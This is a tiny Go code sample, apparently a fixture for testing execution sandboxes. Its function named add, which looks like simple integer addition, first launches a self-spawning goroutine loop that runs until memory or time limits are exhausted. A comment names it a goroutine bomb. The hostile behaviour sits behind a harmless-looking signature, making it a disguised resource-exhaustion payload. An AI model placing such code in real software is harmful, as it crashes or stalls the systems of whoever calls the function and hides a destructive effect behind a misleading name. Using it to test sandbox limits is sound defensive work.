// Goroutine bomb: goroutines that spin and start more, forever. They are not threads (the
// runtime runs them on GOMAXPROCS=1), so they end as a limit: memory or time.
func add(a int, b int) int {
	var spawn func()
	spawn = func() {
		for {
			go spawn()
		}
	}
	spawn()
	return a + b
}
